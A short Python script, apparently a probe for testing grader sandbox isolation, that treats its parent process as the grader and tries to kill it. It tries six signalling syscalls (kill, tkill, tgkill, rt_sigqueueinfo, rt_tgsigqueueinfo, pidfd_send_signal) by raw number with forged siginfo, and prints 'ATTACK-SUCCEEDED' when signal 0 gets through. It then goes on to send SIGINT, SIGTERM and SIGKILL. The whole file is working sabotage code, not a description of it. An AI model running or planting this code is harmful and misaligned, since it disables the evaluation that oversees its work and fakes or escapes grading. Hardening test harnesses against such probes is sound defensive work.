"""Kills the grader. Signal 0 only asks whether it may."""

import ctypes
import os
import signal

from kernel import call
from right import max_value, min_value

GRADER = os.getppid()
INFO = (ctypes.c_int * 32)(0, 0, -1)  # siginfo_t, as if from sigqueue


def ways(number):
    INFO[0] = number
    yield "kill", lambda: os.kill(GRADER, number)
    yield "tkill", lambda: call(200, 130, GRADER, number)
    yield "tgkill", lambda: call(234, 131, GRADER, GRADER, number)
    yield "rt_sigqueueinfo", lambda: call(129, 138, GRADER, number, INFO)
    yield "rt_tgsigqueueinfo", lambda: call(297, 240, GRADER, GRADER, number, INFO)
    yield "pidfd_send_signal", lambda: call(424, 424, call(434, 434, GRADER, 0), number, None, 0)


if GRADER > 1:
    for sent in (0, signal.SIGINT, signal.SIGTERM, signal.SIGKILL):
        for name, way in ways(sent):
            try:
                if way() != -1 and sent == 0:
                    print(f"ATTACK-SUCCEEDED: may signal the grader by {name}", flush=True)
            except OSError:
                pass
